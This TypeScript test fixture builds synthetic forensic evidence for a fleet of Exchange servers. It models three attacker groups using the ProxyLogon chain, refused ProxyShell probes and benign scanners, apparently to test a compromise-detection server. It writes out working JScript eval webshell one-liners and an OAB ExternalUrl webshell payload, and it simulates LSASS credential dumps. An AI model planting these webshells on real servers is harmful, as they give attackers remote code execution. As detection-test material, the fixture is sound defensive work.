// A fleet of organisations whose evidence differs, for the fleet server's end-to-end test: three attacker
// groups (each with its own addresses, user agents, webshells and dates) or none, an internet-wide scanner
// at most organisations, an internal scanner at some, vulnerable and patched builds, and a refused ProxyShell
// request naming an administrator at some. `fleetOrganisations` is the description the test computes its
// expectations from; `fleetServerTree` writes one server's evidence from it with the scenario building blocks.

import { minidump } from './binaries.js';
import { oabConfigDump } from './attacks/files.js';
import { proxyLogon } from './attacks/proxylogon.js';
import { proxyShellAttempts } from './attacks/proxyshell.js';
import { localhostProbe, vulnerabilityScan } from './attacks/scans.js';
import { shellRequest } from './attacks/webshell.js';
import { Rng } from './rng.js';
import { build } from './site.js';
import type { SiteNames } from './site.js';
import { DAY, HOUR, utc } from './time.js';
import { wwwrootWebConfig } from './webfiles.js';
import { finish, makeWorld } from './scenarios/common.js';
import type { Scenario } from './scenarios/common.js';

export type GroupId = 'A' | 'B' | 'C';

export interface AttackerGroup {
  id: GroupId;
  /** The address that runs the ProxyLogon chain, and those that use the webshells afterwards. */
  exploitIp: string;
  shellIps: readonly string[];
  /** The chain's autodiscover and other requests, and the webshell client. */
  agents: { discovery: string; chain: string; shell: string };
  /** The script the chain puts in the OAB ExternalUrl, and the file name the export is written to. */
  oabShell: { name: string; key: string };
  /** The one-liner dropped in aspnet_client: the same bytes (one hash) at every victim of the group. */
  dropShell: { name: string; body: string };
  /** The day the group starts; victims are hit on the days after it. */
  from: number;
  /** Whether the group dumps LSASS (a credential dump on disk) at its victims. */
  dumpsCredentials: boolean;
}

/** Three groups at three times; C is the most recent, and every other activity of the fleet is older. */
export const ATTACKER_GROUPS: readonly AttackerGroup[] = [
  {
    id: 'A',
    exploitIp: '203.0.113.51',
    shellIps: ['203.0.113.77', '139.162.202.236'],
    agents: { discovery: 'ExchangeServicesClient/0.0.0.0', chain: 'python-requests/2.25.1', shell: 'antSword/v2.1' }, // prettier-ignore
    oabShell: { name: 'RedirSuiteServerProxy.aspx', key: 'klk123456' },
    dropShell: { name: 'discover.aspx', body: '<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>' }, // prettier-ignore
    from: utc('2021-03-03T00:00:00'),
    dumpsCredentials: true,
  },
  {
    id: 'B',
    exploitIp: '198.51.100.23',
    shellIps: ['198.51.100.87'],
    agents: { discovery: 'ExchangeServicesClient/15.00.0913.015', chain: 'python-requests/2.26.0', shell: 'Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)' }, // prettier-ignore
    oabShell: { name: 'OutlookRE.aspx', key: 'orange' },
    dropShell: { name: 'errorEE.aspx', body: '<%@ Page Language="Jscript"%><%eval(Request.Item["bb7"],"unsafe");%>' }, // prettier-ignore
    from: utc('2021-09-14T00:00:00'),
    dumpsCredentials: false,
  },
  {
    id: 'C',
    exploitIp: '192.0.2.150',
    shellIps: ['192.0.2.151', '192.0.2.152'],
    agents: { discovery: 'ExchangeServicesClient/0.9.248.0', chain: 'curl/7.83.1', shell: 'Mozilla/5.0 (compatible; ShellClient/3.1)' }, // prettier-ignore
    oabShell: { name: 'HttpProxyFS.aspx', key: 'cz2022' },
    dropShell: { name: 'TimeoutLogout.aspx', body: '<%@ Page Language="Jscript"%><%eval(Request.Item["c22"],"unsafe");%>' }, // prettier-ignore
    from: utc('2022-12-05T00:00:00'),
    dumpsCredentials: true,
  },
];

/** One Censys address (data/internet-scanners.json) sending Nmap's NSE check: seen at most organisations. */
export const CENSYS_IP = '162.142.125.221';
/** Addresses that try ProxyShell and are refused: each seen at a few organisations. */
export const PROBERS = ['198.18.4.20', '198.18.9.71', '198.18.12.133'] as const;
export const PROBER_UA = 'python-requests/2.27.1';
const SCANNER_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:102.0) Gecko/20100101 Firefox/102.0';

/** Exchange 2016 CU19 without security updates, and CU23 with the November 2022 SU (fixed for all four). */
export const VULNERABLE_BUILD = '15.01.2176.002';
export const PATCHED_BUILD = '15.01.2507.016';

export interface FleetServer {
  /** The server's name, unique in the fleet (`ORG07-EX01`): the name it is uploaded under. */
  name: string;
  org: string;
  names: SiteNames;
  siteSeed: number;
  /** The period the evidence covers (ms). */
  from: number;
  to: number;
  /** Builds over time; the last one is what the scan sees. */
  builds: readonly { from: number; build: string }[];
  /** Whether the build at the end of the evidence is vulnerable (no mitigation is ever applied). */
  vulnerable: boolean;
  attack: null | {
    group: GroupId;
    at: number;
    /** The group's last request at this server. */
    lastActivity: number;
    /** Webshells left on disk, relative to the evidence root. */
    webshells: string[];
    credentialDump: string | null;
  };
  censys: number | null;
  internalScanner: { ip: string; at: number } | null;
  /** A refused ProxyShell request whose X-Rps-CAT names the administrator. */
  refused: { ip: string; at: number; administrator: string } | null;
}

export interface FleetOrganisation {
  name: string;
  servers: FleetServer[];
}

const VICTIMS_PER_GROUP_MAX = 7;

/**
 * n organisations, deterministic from the seed. Each group hits at most seven organisations (below the
 * fleet's "widespread" count, so that its addresses stay indicators); the first victim organisation always
 * has a second server that is not hit, so that notifications for a compromised and a clean server can be
 * told apart.
 */
export function fleetOrganisations(n: number, seed: number): FleetOrganisation[] {
  const rng = new Rng(seed).fork('fleet');
  const perGroup = Math.max(1, Math.min(VICTIMS_PER_GROUP_MAX, Math.floor(n / 7)));
  const plan: (AttackerGroup | null)[] = [];
  for (let i = 0; i < n; i++) {
    const g = Math.floor(i / perGroup);
    plan.push(g < ATTACKER_GROUPS.length ? (ATTACKER_GROUPS[g] as AttackerGroup) : null);
  }
  // Shuffle which organisation gets which fate (Fisher-Yates on the seeded stream).
  for (let i = plan.length - 1; i > 0; i--) {
    const j = rng.int(0, i);
    [plan[i], plan[j]] = [plan[j] as AttackerGroup | null, plan[i] as AttackerGroup | null];
  }
  const dayOf = new Map<GroupId, number>();
  let forcedPair = false;
  return plan.map((group, i) => {
    const code = `ORG${String(i + 1).padStart(2, '0')}`;
    const orgRng = rng.fork(code);
    const pair = (group && !forcedPair) || orgRng.chance(0.2);
    const secondHit = group !== null && forcedPair && orgRng.chance(0.5);
    if (group) forcedPair = true;
    const servers: FleetServer[] = [];
    for (let k = 0; k < (pair ? 2 : 1); k++) {
      const hit = k === 0 ? group : secondHit ? group : null;
      const r = orgRng.fork(`server${k}`);
      let at: number;
      if (hit) {
        const d = dayOf.get(hit.id) ?? 0;
        if (k === 0) dayOf.set(hit.id, d + 1);
        at = hit.from + d * DAY + r.int(1, 20) * HOUR + r.int(0, 3_599_999);
      } else at = utc('2022-09-01T00:00:00') + r.int(0, 80) * DAY + r.int(0, DAY - 1);
      servers.push(fleetServer(r, code, k, hit, at));
    }
    return { name: code.toLowerCase(), servers };
  });
}

function fleetServer(r: Rng, code: string, k: number, group: AttackerGroup | null, at: number): FleetServer {
  const server = `EX${String(k + 1).padStart(2, '0')}`;
  const names: SiteNames = {
    server: `${code}-${server}`,
    netbios: code,
    adDomain: `${code.toLowerCase()}.local`,
    mailDomain: `${code.toLowerCase()}.example`,
    ip: `10.${20 + k}.1.15`,
  };
  const from = Math.floor(at / DAY) * DAY - DAY;
  const to = from + 3 * DAY;
  // Victims ran the vulnerable build when hit; half were patched before the evidence was collected. Of the
  // rest, four in ten never patched.
  const patchAt = to - r.int(4, 8) * HOUR;
  const builds = group
    ? r.chance(0.5)
      ? [
          { from: 0, build: VULNERABLE_BUILD },
          { from: patchAt, build: PATCHED_BUILD },
        ]
      : [{ from: 0, build: VULNERABLE_BUILD }]
    : [{ from: 0, build: r.chance(0.4) ? VULNERABLE_BUILD : PATCHED_BUILD }];
  const vulnerable = builds[builds.length - 1]?.build === VULNERABLE_BUILD;
  const during = (lo: number) => lo + r.int(0, to - lo - 8 * HOUR);
  const attack = group ? attackPlan(group, at, names) : null;
  const refused = r.chance(0.3)
    ? { ip: r.pick(PROBERS), at: during(from), administrator: `administrator@${names.mailDomain}` }
    : null;
  return {
    name: names.server,
    org: code.toLowerCase(),
    names,
    siteSeed: r.int(1, 2 ** 30),
    from,
    to,
    builds,
    vulnerable,
    attack,
    censys: r.chance(0.85) ? during(from) : null,
    internalScanner: r.chance(0.3) ? { ip: `10.${20 + k}.5.40`, at: during(from) } : null,
    refused,
  };
}

/** The group's steps at one victim, as offsets from `at`: the shell requests follow the chain by hours. */
const SHELL_STEPS = [
  { after: 2 * HOUR, method: 'GET', note: 'check' },
  { after: 2 * HOUR + 41_000, method: 'POST', note: 'command' },
  { after: 2 * HOUR + 170_000, method: 'POST', note: 'write-drop' },
  { after: 2 * HOUR + 290_000, method: 'POST', note: 'lsass-dump' },
  { after: 9 * HOUR, method: 'POST', note: 'drop-check' },
] as const;

function attackPlan(g: AttackerGroup, at: number, names: SiteNames): NonNullable<FleetServer['attack']> {
  const installRel = 'Program Files/Microsoft/Exchange Server/V15';
  return {
    group: g.id,
    at,
    lastActivity: at + (SHELL_STEPS[SHELL_STEPS.length - 1] as { after: number }).after,
    webshells: [
      `${installRel}/FrontEnd/HttpProxy/owa/auth/${g.oabShell.name}`,
      `inetpub/wwwroot/aspnet_client/${g.dropShell.name}`,
    ],
    credentialDump: g.dumpsCredentials ? `Windows/Temp/${names.netbios.toLowerCase()}.dmp` : null,
  };
}

/** `3/3/2021 6:49:53 AM`, as the OAB export writes WhenChanged. */
function usDate(t: number): string {
  const d = new Date(t);
  const h = d.getUTCHours();
  const p2 = (x: number) => String(x).padStart(2, '0');
  return `${d.getUTCMonth() + 1}/${d.getUTCDate()}/${d.getUTCFullYear()} ${h % 12 || 12}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} ${h < 12 ? 'AM' : 'PM'}`;
}

export function groupOf(id: GroupId): AttackerGroup {
  const g = ATTACKER_GROUPS.find((x) => x.id === id);
  if (!g) throw new Error(`no attacker group ${id}`);
  return g;
}

/** One server's evidence tree. `scale` thins the benign traffic (0.05 keeps a tree near a megabyte). */
export function fleetServerTree(s: FleetServer, opts: { seed: number; scale: number }): Scenario {
  const w = makeWorld({
    name: s.name,
    from: s.from,
    to: s.to,
    history: {
      builds: s.builds.map((b) => ({ from: b.from, build: build(b.build) })),
      restarts: s.builds.slice(1).map((b) => b.from),
      down: s.builds.slice(1).map((b) => [b.from - 33 * 60_000, b.from] as const),
      feFields: [],
      rollHours: 24,
    },
    installed: s.from - 60 * DAY,
    opts,
    site: { seed: s.siteSeed, names: s.names },
    probeMinutes: 60,
  });
  const { attackEnv: env, tree, tl, site } = w;
  tree.add('inetpub/wwwroot/web.config', wwwrootWebConfig([]), s.from - 50 * DAY);

  if (s.censys !== null) localhostProbe(env, tl, s.censys, CENSYS_IP, 500);
  if (s.internalScanner) vulnerabilityScan(env, tl, s.internalScanner.at, s.internalScanner.ip, SCANNER_UA);
  if (s.refused) proxyShellAttempts(env, tl, s.refused.at, s.refused.ip, PROBER_UA, 'poc.example');

  const a = s.attack;
  if (a) {
    const g = groupOf(a.group);
    const externalUrl = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["${g.oabShell.key}"],"unsafe");}</script>`;
    const { written } = proxyLogon(env, tl, a.at, {
      ip: g.exploitIp,
      stem: '/ecp/y.js',
      at: [0, 1537, 4048, 9381, 11672, 26400],
      vdirGuid: site.oabVdirGuid,
      agents: { discovery: g.agents.discovery, chain: g.agents.chain },
      externalUrl,
    });
    const [oabPath, dropPath] = a.webshells as [string, string];
    const vulnerable = build(VULNERABLE_BUILD);
    tree.add(oabPath, oabConfigDump(site, vulnerable, externalUrl, usDate(written)), written);
    tl.add(written, g.exploitIp, 'file:webshell-oab-dump', oabPath);
    const oabStem = `/owa/auth/${g.oabShell.name}`;
    const dropStem = `/aspnet_client/${g.dropShell.name}`;
    SHELL_STEPS.forEach((step, i) => {
      const t = a.at + step.after;
      const ip = g.shellIps[i % g.shellIps.length] as string;
      if (step.note === 'lsass-dump' && !a.credentialDump) return;
      const stem = step.note === 'drop-check' ? dropStem : oabStem;
      shellRequest(env, tl, { t, ip, ua: g.agents.shell, method: step.method, stem, note: step.note });
      if (step.note === 'write-drop') {
        tree.add(dropPath, g.dropShell.body, t - 60);
        tl.add(t - 60, ip, 'file:webshell-drop', dropPath);
      }
      if (step.note === 'lsass-dump' && a.credentialDump) {
        tree.add(a.credentialDump, minidump(env.rng, 6144, t - 600), t - 600);
        tl.add(t - 600, ip, 'file:lsass-dump', a.credentialDump);
      }
    });
  }
  return finish(w, s.name);
}
